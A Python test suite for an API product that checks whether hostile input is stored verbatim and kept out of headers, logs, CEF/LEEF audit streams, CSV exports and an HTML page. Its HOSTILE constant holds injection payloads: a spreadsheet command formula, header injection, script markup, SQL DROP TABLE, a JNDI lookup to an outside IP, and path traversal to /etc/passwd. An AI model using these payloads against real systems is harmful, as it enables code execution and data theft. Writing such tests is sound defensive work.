"""Texts that are code elsewhere come back as they went in, from every text field that the document
names, and are nowhere else: no header, no log, no line of their own in a stream or a table."""

import csv
import io
import json
import logging
from typing import Any

import pycef
import pytest

from pce.flows.records import csv_text
from pce.objects.product import PRODUCT_VERSION
from pce.runtime.api_answer import document
from pce.runtime.api_page import page
from pce.runtime.wiring import Wiring
from pce.streaming.cef import cef
from pce.streaming.leef import leef
from pce.streaming.records import Record
from tests.fakes.api import Api, new_org
from tests.published.described import Operation, example, operations, plain
from tests.published.estate import filled, named
from tests.published.known_objects import KnownObjects

HOSTILE = (
    "=cmd|' /C calc'!A0\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script> '; DROP TABLE x; --"
    ' "},{"$ne": null} ${jndi:ldap://192.0.2.66/a} ../../etc/passwd %00%0d%0a %s %n \t|a=b\\|'
    " \u2028\u202e\x07\x1b[31m"
)
"""Spreadsheet formula, header, markup, SQL, JSON, look-ups, path, formats, separators of CEF and
LEEF, line ends and controls."""
CREATED = [each for each in operations() if each.method == "POST" and example(each)]
WRITES_TEXT = 30
"""Fields in which such a text is accepted and comes back, at the least."""


@pytest.fixture(scope="module")
def estate(stores: Wiring) -> tuple[Api, KnownObjects]:
    """A new org, with objects for others to lie under."""
    api, known = new_org("Injection"), KnownObjects()
    for parent in CREATED:
        if any(each.path.startswith(f"{parent.path}/{{") for each in CREATED):
            body = named(example(parent), "parent")
            known.learn(api.post(filled(parent.path, {"org": api.org[6:]}), body))
    return api, known


def hostile_body(operation: Operation) -> dict[str, Any]:
    """The example, with the text in each text field that has no form of its own. Texts differ, as
    names must."""
    sent = example(operation)
    sent = sent[0] if isinstance(sent, list) else sent
    schema = plain(operation.sent)
    schema = plain(schema["items"]) if schema.get("type") == "array" else schema
    for name, field in schema["properties"].items():
        field = plain(field)
        if field.get("type") == ["string", "null"] and "maxLength" in field:
            room = field["maxLength"] - len(name) - 1
            if "pattern" not in field:
                sent = {**sent, name: f"{HOSTILE[:room]} {name}"}
    return dict(sent)


@pytest.mark.parametrize("operation", CREATED, ids=str)
def test_a_hostile_text_comes_back_as_it_went_in(
    estate: tuple[Api, KnownObjects],
    operation: Operation,
    capfd: pytest.CaptureFixture[str],
    caplog: pytest.LogCaptureFixture,
) -> None:
    """From the object, from its list, and from the audit event; fields that have a form refuse it,
    and say so without a header or a log of it."""
    api, known = estate
    caplog.set_level(logging.DEBUG, logger="pce")
    path = filled(operation.path, {"org": api.org[6:], **known.ids(operation.path, 0)})
    body = hostile_body(operation)
    for _ in range(3):
        answer = api.call("POST", path, [body] if "items" in plain(operation.sent) else body)
        assert answer.status in (201, 406), answer.raw
        assert all(c.isprintable() for value in answer.headers.values() for c in value)
        if answer.status == 201:
            break
        refused = {problem.get("field") for problem in answer.json}
        taken_out = {name: example_value(operation, name) for name in body if name in refused}
        assert taken_out, answer.raw
        body = {name: value for name, value in {**body, **taken_out}.items() if value is not None}
    assert answer.status == 201, answer.raw
    made = answer.json[0] if isinstance(answer.json, list) else answer.json
    shown = api.get(made["href"])
    for name, value in body.items():
        if isinstance(value, str) and "=cmd" in value and name in shown:
            assert shown[name] == value, name
    said = capfd.readouterr()
    assert "DROP TABLE" not in said.out + said.err + caplog.text


def example_value(operation: Operation, name: str) -> Any:
    """What the document's example has there; None without."""
    sent = example(operation)
    return (sent[0] if isinstance(sent, list) else sent).get(name)


def test_such_texts_are_accepted_in_many_fields(estate: tuple[Api, KnownObjects]) -> None:
    """The generated bodies are not empty."""
    fields = [
        name
        for operation in CREATED
        for name, value in hostile_body(operation).items()
        if isinstance(value, str) and "=cmd" in value
    ]
    assert len(fields) >= WRITES_TEXT


def test_a_hostile_text_breaks_no_stream(estate: tuple[Api, KnownObjects]) -> None:
    """Each audit event of them is one line of CEF, LEEF and JSON, with no fields more."""
    api, _ = estate
    events = [e for e in api.get(f"{api.org}/events") if "DROP TABLE" in json.dumps(e)]
    assert len(events) > 10
    for event in events:
        record = Record("audit_event", event)
        for line in (cef(record, PRODUCT_VERSION["version"]), leef(record, "1")):
            assert len(line.splitlines()) == 1
            assert not any(ord(c) < 32 and c != "\t" for c in line)
        parsed = pycef.parse(cef(record, PRODUCT_VERSION["version"]))
        assert not any("DROP" in key or "script" in key for key in parsed)
        assert "\n" not in json.dumps(event)


def test_a_hostile_text_is_one_cell_and_no_formula() -> None:
    """In the CSV of flows."""
    side = {"ip": "192.0.2.1", "workload": {"hostname": HOSTILE, "labels": []}}
    flow = {"src": side, "dst": side, "service": {"proto": 6, "process_name": HOSTILE}}
    rows = list(csv.reader(io.StringIO(csv_text([flow]), newline="")))
    assert {len(row) for row in rows} == {len(rows[0])} and len(rows) == 2
    cells = [cell for cell in rows[1] if "cmd" in cell]
    assert cells and all(cell.startswith("'=") for cell in cells)


def test_the_page_shows_text_as_text() -> None:
    """Markup in a summary is shown, not obeyed."""
    hostile = json.loads(json.dumps(document()))
    for methods in hostile["paths"].values():
        for operation in methods.values():
            operation["summary"] = HOSTILE
    assert "<script>" not in page(hostile)


def test_another_org_sees_none_of_it(estate: tuple[Api, KnownObjects]) -> None:
    """Not in a list, not in an event."""
    other = new_org("Other")
    for path in ("labels", "workloads", "events", "sec_policy/draft/ip_lists"):
        assert "DROP TABLE" not in json.dumps(other.get(f"{other.org}/{path}"))
